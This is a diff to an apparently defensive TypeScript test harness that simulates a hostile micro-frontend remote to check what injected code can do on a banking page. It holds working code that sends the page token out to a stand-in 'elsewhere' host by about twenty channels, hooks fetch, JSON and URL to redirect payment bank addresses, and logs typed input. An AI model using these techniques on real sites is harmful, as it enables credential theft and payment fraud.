@@ -1,13 +1,77 @@
 /** What a remote tried: `no` and why, or `yes`. */
 export type Outcome = string;
 
+/** Addresses of the site that a hostile remote sends to. */
+export interface Elsewhere {
+  /** Answers everything; the path says by which attempt it was reached. */
+  readonly url: string;
+  /** Takes connections of WebRTC, and says nothing. */
+  readonly relay: string;
+}
+
+/** What a remote with its own code on the page's origin did not get, and what it did: docs/assurance.md says the same. */
+export const couldNot = [
+  'read the session cookie',
+  'run text as code',
+  'compile WebAssembly',
+  'write HTML into the page',
+  'make the policy of the sanitiser its own',
+  'replace a function of React for the pages of others',
+  'reach what loads remotes',
+  "reach the bundler's modules of the shell and of other remotes",
+  'lay a page ready for a remote that is loaded later',
+  'stand in for a remote that is loaded later',
+  'add an inline script',
+  'load a script from elsewhere',
+  'import a module from elsewhere',
+  'start a worker of its own text',
+  'send by fetch',
+  'send by XMLHttpRequest',
+  'send by beacon',
+  'send by form',
+  'send by form to another window',
+  'send by image',
+  'send by style sheet',
+  'send by font',
+  'send by video',
+  'send by object',
+  'send by frame',
+  'send by fetching ahead',
+  'send by the ping of a link',
+  'send by WebSocket',
+  'send by event source',
+  'move the base of addresses',
+  "read another customer's debt",
+  "read another customer's plan",
+  'list all customers',
+  'make an administrator',
+  'change the contact data',
+  'change the password',
+  'pay another sum than is due',
+  'have the bank lead back to another site',
+  'publish a release',
+  'switch a remote off',
+  "replace the bank's address of a payment",
+  'read a password that is typed where its code never ran',
+] as const;
+export const could = [
+  'read the token of the page',
+  'read what its own person may read',
+  'read the DOM of the shell',
+  'replace fetch for what comes later',
+  'read a password that is typed after it, in the same document',
+  'send by WebRTC',
+  'send by a new window',
+  'send by taking the page to another site',
+] as const;
+
 /**
- * Everything that a hostile remote tries from its own code, once its page stands there. It is built into a release as
- * text, so it stands alone: no imports, browser only. `elsewhere` is a site of its own, `other` a national ID of
- * another person, `react` what the shell shares under that name.
+ * What a hostile remote tries from its own code, once its page stands there. It is built into a release as text, so it
+ * stands alone: no imports, browser only. `other` is a national ID of another person, `react` what the shell shares
+ * under that name. What arrives elsewhere is seen there alone: such an attempt answers "no" where it cannot know.
  */
 export async function tryEverything(
-  elsewhere: string,
+  { url: elsewhere, relay }: Elsewhere,
   other: string,
   react: Record<string, unknown>,
 ): Promise<Record<string, Outcome>> {
@@ -128,24 +192,76 @@ export async function tryEverything(
       worker.onerror = () => fail(new Error('error'));
     });
   });
-  await attempt('send by fetch', () => fetch(`${elsewhere}/fetch?d=${token}`, { mode: 'no-cors' }));
-  await attempt('send by image', () => loaded(made('img', { src: `${elsewhere}/image?d=${token}` })));
-  await attempt('send by style sheet', () =>
-    loaded(made('link', { rel: 'stylesheet', href: `${elsewhere}/style?d=${token}` }), document.head),
-  );
-  await attempt('send by WebSocket', () => {
-    const socket = new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`);
-    return new Promise((done, fail) => {
-      socket.onopen = done;
-      socket.onerror = () => fail(new Error('error'));
+  /** An attempt to send, to an address that names it. */
+  const send = (name: string, act: (address: string) => unknown): Promise<void> =>
+    attempt(name, () => act(`${elsewhere}/${encodeURIComponent(name)}?d=${token}`));
+  const answered = (by: EventTarget, success: string): Promise<unknown> =>
+    new Promise((done, fail) => {
+      by.addEventListener(success, done);
+      by.addEventListener('error', () => fail(new Error('error')));
     });
+  const unknown = (): string => 'no: seen where it arrives';
+  await send('send by fetch', (address) => fetch(address, { mode: 'no-cors' }));
+  await send('send by XMLHttpRequest', (address) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', address);
+    request.send();
+    return answered(request, 'load');
   });
-  await attempt('send by event source', () => {
-    const source = new EventSource(`${elsewhere}/events`);
-    return new Promise((done, fail) => {
-      source.onopen = done;
-      source.onerror = () => fail(new Error('error'));
+  await send('send by beacon', (address) => {
+    navigator.sendBeacon(address, token);
+    return unknown();
+  });
+  for (const [name, target] of [
+    ['send by form', '_self'],
+    ['send by form to another window', '_blank'],
+  ] as const)
+    await send(name, (address) => {
+      const form = made('form', { action: address, method: 'post', target }) as HTMLFormElement;
+      form.append(made('input', { name: 'd', value: token }));
+      document.body.append(form);
+      form.submit();
+      return unknown();
     });
+  await send('send by image', (address) => loaded(made('img', { src: address })));
+  await send('send by style sheet', (address) =>
+    loaded(made('link', { rel: 'stylesheet', href: address }), document.head),
+  );
+  await send('send by font', (address) => new FontFace('hostile', `url("${address}")`).load());
+  await send('send by video', (address) => {
+    const video = made('video', { src: address });
+    document.body.append(video);
+    return answered(video, 'loadeddata');
+  });
+  await send('send by object', (address) => loaded(made('object', { data: address, type: 'text/html' })));
+  // A frame that may not load says that it has loaded: what arrives decides.
+  await send('send by frame', (address) => {
+    document.body.append(made('iframe', { src: address }));
+    return unknown();
+  });
+  await send('send by fetching ahead', (address) =>
+    loaded(made('link', { rel: 'prefetch', href: address }), document.head),
+  );
+  await send('send by the ping of a link', (address) => {
+    const link = made('a', { href: '#hostile', ping: address });
+    document.body.append(link);
+    link.click();
+    return unknown();
+  });
+  await send('send by WebSocket', (address) =>
+    answered(new WebSocket(address.replace('http', 'ws')), 'open'),
+  );
+  await send('send by event source', (address) => answered(new EventSource(address), 'open'));
+  await attempt('send by WebRTC', async () => {
+    const server = { urls: `turn:${relay}?transport=tcp`, username: token || 'd', credential: 'd' };
+    const connection = new RTCPeerConnection({ iceServers: [server] });
+    connection.createDataChannel('d');
+    await connection.setLocalDescription(await connection.createOffer());
+    return unknown();
+  });
+  await send('send by a new window', (address) => {
+    window.open(address);
+    return unknown();
   });
   await attempt('move the base of addresses', () => {
     document.head.append(made('base', { href: `${elsewhere}/` }));
@@ -186,6 +302,13 @@ export async function tryEverything(
       extra_properties: { bankcode: '1007', bankname: 'x', sales_person: '' },
     });
   });
+  await attempt('have the bank lead back to another site', () =>
+    call('POST', '/api/pay_invoices', {
+      ...{ error_marca: false, fiscal_number: '1010101010', invoices: [], invoices_to_pay: [] },
+      ...{ total_amount: 0, payment_method: 'PSE', login: true, bank_url: elsewhere, return_url: elsewhere },
+      extra_properties: { bankcode: '1007', bankname: 'x', sales_person: '', bank_url: elsewhere },
+    }),
+  );
   await attempt('publish a release', () => call('POST', '/registry/releases', {}));
   await attempt('switch a remote off', () => call('POST', '/registry/operations', {}));
 
@@ -200,4 +323,54 @@ export async function tryEverything(
     window.fetch = original;
   });
   return outcomes;
+}
+
+/**
+ * Replaces, again and again, what the way to the bank goes through, so that it would lead elsewhere: what asks, what reads
+ * the answer and what makes an address of it. Built into a release as text, like the above.
+ */
+export function replaceWhatLeadsToTheBank(elsewhere: string): void {
+  const hostile = `${elsewhere}/${encodeURIComponent("replace the bank's address of a payment")}`;
+  const { URL: Address, fetch: ask, JSON: text } = window;
+  const { parse, stringify } = text;
+  const { json } = Response.prototype;
+  /** The reply with another address in it. */
+  const altered = (reply: unknown): unknown => {
+    const written = stringify(reply);
+    return written?.includes('"bank_url":"http')
+      ? parse(written.replace(/"bank_url":"[^"]*"/, `"bank_url":"${hostile}"`))
+      : reply;
+  };
+  const replace = (): void => {
+    window.fetch = async (...given) => {
+      const answer = await ask(...given);
+      return Object.assign(answer, { json: async () => altered(await json.call(answer)) });
+    };
+    Response.prototype.json = async function () {
+      return altered(await json.call(this));
+    };
+    JSON.parse = (written, reviver) => altered(parse(written, reviver));
+    const { href } = Object.getOwnPropertyDescriptors(Address.prototype);
+    window.URL = class extends Address {
+      override get href() {
+        const real = href.get?.call(this) as string;
+        return real.startsWith(location.origin) ? real : hostile;
+      }
+    } as typeof URL;
+    XMLHttpRequest.prototype.open = () => {};
+  };
+  replace();
+  setInterval(replace, 5);
+}
+
+/** Writes down whatever is typed into the document from now on. Built into a release as text, like the above. */
+export function writeDownWhatIsTyped(): void {
+  document.addEventListener(
+    'input',
+    ({ target }) => {
+      const typed = (target as HTMLInputElement).value;
+      Object.assign(window, { typed: [...((window as unknown as { typed?: string[] }).typed ?? []), typed] });
+    },
+    true,
+  );
 }
